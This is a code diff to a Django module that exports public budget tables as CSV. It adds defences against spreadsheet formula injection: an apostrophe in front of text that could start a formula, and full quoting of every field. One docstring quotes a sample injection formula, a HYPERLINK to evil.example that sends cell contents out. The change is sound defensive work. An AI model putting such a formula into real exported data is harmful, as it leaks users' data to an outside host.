@@ -1,6 +1,7 @@
 """The public tables (django-tables2). Each can also be downloaded as CSV from the same rows."""
 
 import csv
+import re
 from functools import cached_property
 from itertools import pairwise
 
@@ -18,6 +19,7 @@ from django_tables2.utils import AttributeDict, OrderBy
 
 from budgets.display import amount_html, amount_html_formatter, amount_text, sort_key
 from budgets.numbers import amount_formatter
+from budgets.workbooks import FORMULA_TRIGGERS
 from initiatives.models import Theme
 
 
@@ -38,12 +40,33 @@ def year_columns(years, prefix="y", **kwargs) -> list[tuple[str, tables.Column]]
     return [(f"{prefix}{year}", AmountColumn(verbose_name=str(year), **kwargs)) for year in years]
 
 
+# A value the tables print as a number (an amount, "-0,3 %"): a spreadsheet reads it as one, never as a formula.
+NUMBER = re.compile(r"^[-+]?\d[\d.,\s]*%?$")
+# Where a spreadsheet may start a cell in a text: at its start, and after a semicolon or a line break, where Danish
+# Excel (which splits rows at semicolons) may start one whatever the quoting.
+CELL_START = re.compile("(^|[;\r\n])(?=[" + re.escape("".join(FORMULA_TRIGGERS)) + "])")
+
+
+def spreadsheet_text(value) -> str:
+    """A value for a CSV file that people open in a spreadsheet. Text that Excel would run as a formula (a title
+    such as '=HYPERLINK("http://evil.example/?leak="&A1)') gets an apostrophe in front, as the workbooks' text
+    does, at its start and wherever a cell could start inside it. Numbers, negative ones included, stay as they
+    are."""
+    text = "" if value is None else force_str(value)
+    if NUMBER.match(text):
+        return text
+    return CELL_START.sub(r"\1'", text)
+
+
 def csv_response(table: tables.Table, filename: str) -> HttpResponse:
+    """The table as CSV for a spreadsheet. Every field is quoted, so that Danish Excel, which splits a row at
+    semicolons, cannot start a cell in the middle of a title either. (The open-data CSV under /api/ is for
+    programs and stays as stored.)"""
     response = HttpResponse(content_type="text/csv; charset=utf-8")
     response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
-    writer = csv.writer(response)
+    writer = csv.writer(response, quoting=csv.QUOTE_ALL)
     for row in table.as_values():
-        writer.writerow(row)
+        writer.writerow([spreadsheet_text(value) for value in row])
     return response
 
 
